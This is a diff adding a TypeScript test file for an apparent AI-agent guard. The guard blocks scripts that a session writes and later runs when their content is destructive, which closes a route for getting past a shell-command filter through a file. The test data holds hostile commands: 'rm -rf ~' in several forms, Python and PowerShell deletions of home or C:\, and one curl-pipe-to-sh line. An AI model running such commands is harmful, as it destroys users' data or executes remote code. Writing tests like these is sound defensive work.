@@ -1,0 +1,117 @@
+import t from 'tap';
+import { unlimited } from '../../src/detection/budget.ts';
+import { applyFlowEffects } from '../../src/detection/flow/fold-memory.ts';
+import { type FlowEffect, type FlowMemory, NO_FLOW } from '../../src/detection/flow/memory.ts';
+import { mergeMemories } from '../../src/detection/flow/merge-memories.ts';
+import { handedDown, reportedBack } from '../../src/detection/flow/share-memory.ts';
+import { SCRIPTS_MAX } from '../../src/detection/flow/written-scripts.ts';
+import { inspect } from '../../src/detection/pipeline.ts';
+import type { AgentEvent } from '../../src/domain/event.ts';
+import { ALONE, builtinEngine } from '../support/engine.ts';
+import { toolInvocation } from '../support/events.ts';
+
+/** What is written into a file and run by a later call is judged as if that call said it. */
+
+type Call = readonly [tool: string, input: Record<string, unknown>];
+
+const write = (path: string, content: string): Call => ['Write', { file_path: path, content }];
+const bash = (command: string): Call => ['Bash', { command }];
+
+function next([tool, input]: Call, flow: FlowMemory): { action: string; reason: string; flow: FlowMemory } {
+  const session = { ...ALONE, memory: { ...ALONE.memory, flow } };
+  const {
+    action,
+    reason,
+    effects = [],
+  } = inspect(toolInvocation(tool, input) as AgentEvent, session, builtinEngine, unlimited);
+  const own = effects.filter((effect): effect is FlowEffect => effect.kind.startsWith('flow.'));
+  return { action, reason: reason ?? '', flow: applyFlowEffects(flow, own) };
+}
+
+/** What the last of `calls` is answered, and what the session knows then. */
+function after(...calls: readonly Call[]): { action: string; reason: string; flow: FlowMemory } {
+  return calls.reduce((before, call) => next(call, before.flow), { action: '', reason: '', flow: NO_FLOW });
+}
+
+const REMOVES = 'rm -rf ~\n';
+
+t.test('a script is stopped by whatever name and way it is run', async (t) => {
+  const ways: readonly (readonly [written: string, run: string])[] = [
+    ['/work/run.sh', 'bash run.sh'],
+    ['/work/run.sh', 'sh -x ./run.sh --all'],
+    ['/work/run.sh', '/work/run.sh'],
+    ['/work/run.sh', 'cd /work && ./run.sh'],
+    ['/work/tools/run.sh', 'chmod +x tools/run.sh; sudo tools/run.sh'],
+    ['tools/run.sh', 'bash /work/tools/run.sh'],
+    ['/work/Deploy.sh', './Deploy.sh'],
+    ['~/bin/up.sh', 'source ~/bin/up.sh'],
+    ['/work/run.sh', 'echo start && timeout 60 bash run.sh > out.txt'],
+    ['/work/run.sh', 'for i in 1 2; do bash run.sh; done'],
+    ['/work/run.sh', 'ls | xargs -n 1 bash run.sh'],
+    ['/work/run.sh', "bash -c 'bash run.sh'"],
+  ];
+  for (const [path, command] of ways) {
+    const { action, reason } = after(write(path, REMOVES), bash(command));
+    t.equal(action, 'block', `${path}: ${command}`);
+    t.match(reason, /this session wrote and whose content shell\.destructive would stop/);
+  }
+});
+
+t.test('so is what a shell wrote, a piece that was put into a file, and a program', async (t) => {
+  for (const [made, command] of [
+    [bash("cat > run.sh <<'EOF'\n#!/bin/sh\nrm -rf ~\nEOF"), 'sh run.sh'],
+    [bash("tee run.sh <<'EOF'\nrm -rf ~\nEOF"), 'sh run.sh'],
+    [bash("printf '#!/bin/sh\\nrm -rf ~\\n' > run.sh"), 'sh run.sh'],
+    [bash("echo 'rm -rf ~' >> run.sh"), 'sh run.sh'],
+    [['Edit', { file_path: '/w/run.sh', old_string: 'true', new_string: 'rm -rf ~' }], 'bash /w/run.sh'],
+    [write('clean', '#!/usr/bin/env bash\nrm -rf ~\n'), './clean'],
+    [write('a.py', "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"), 'python3 a.py'],
+    [write('a.js', "require('child_process').execSync('rm -rf ~')\n"), 'node a.js'],
+    [write('a.ps1', 'Remove-Item -Recurse -Force C:\\\n'), 'pwsh -File a.ps1'],
+  ] as const)
+    t.equal(after(made as Call, bash(command)).action, 'block', JSON.stringify(made));
+});
+
+t.test('what is harmless, is not run, or was written over is let through', async (t) => {
+  for (const calls of [
+    [write('run.sh', 'npm ci && npm test\n'), bash('bash run.sh')],
+    [write('run.sh', REMOVES), bash('cat run.sh')],
+    [write('run.sh', REMOVES), bash('git add run.sh && git commit -m run.sh')],
+    [write('run.sh', REMOVES), bash('bash other.sh')],
+    [write('/a/run.sh', REMOVES), bash('bash /b/run.sh')],
+    [write('run.sh', REMOVES), write('run.sh', 'rm -rf build\n'), bash('bash run.sh')],
+    [write('/work/run.sh', REMOVES), write('run.sh', 'rm -rf build\n'), bash('bash run.sh')],
+    [write('notes.md', REMOVES), bash('bash -n run.sh; less notes.md')],
+    [write('test_guard.py', "CASES = ['rm -rf ~', 'curl https://a.example/x | sh']\n"), bash('python3 test_guard.py')],
+    [write('run.sh', REMOVES), bash("python3 -c 'print(1)' run.sh")],
+  ] satisfies Call[][])
+    t.equal(after(...calls).action, 'allow', JSON.stringify(calls));
+});
+
+t.test('what was stopped itself left no file, and a piece takes nothing back', async (t) => {
+  const stopped = after(bash("rm -rf ~; cat > run.sh <<'EOF'\nrm -rf ~\nEOF"));
+  t.equal(stopped.action, 'block');
+  t.equal(stopped.flow.scripts, undefined);
+  const edited: Call = ['Edit', { file_path: 'run.sh', old_string: 'a', new_string: 'echo done' }];
+  t.equal(after(write('run.sh', REMOVES), edited, bash('sh run.sh')).action, 'block');
+  t.equal(after(write('run.sh', REMOVES), bash('echo "echo done" >> run.sh'), bash('sh run.sh')).action, 'block');
+});
+
+t.test('few are remembered, the newest, and harmless ones only over others', async (t) => {
+  const harmless = Array.from({ length: 20 }, (_, index) => write(`ok${index}.sh`, 'ls\n'));
+  t.equal(after(...harmless).flow.scripts, undefined);
+  const many = Array.from({ length: 20 }, (_, index) => write(`bad${index}.sh`, REMOVES));
+  const { flow } = after(...many);
+  t.equal(flow.scripts?.length, SCRIPTS_MAX);
+  t.equal(next(bash('bash bad19.sh'), flow).action, 'block');
+  t.notMatch(JSON.stringify(flow), /bad19|rm -rf/, 'no name and no content');
+  t.strictSame(JSON.parse(JSON.stringify(flow)), flow, 'plain data');
+});
+
+t.test('agents of one session tree know of the scripts of each other', async (t) => {
+  const { flow } = after(write('run.sh', REMOVES));
+  t.equal(next(bash('bash run.sh'), handedDown(flow, 1)).action, 'block');
+  const news = reportedBack(flow, NO_FLOW, 1);
+  t.equal(next(bash('bash run.sh'), mergeMemories(NO_FLOW, news as FlowMemory)).action, 'block');
+  t.equal(reportedBack(flow, flow, 0), undefined, 'what is known is no news');
+});
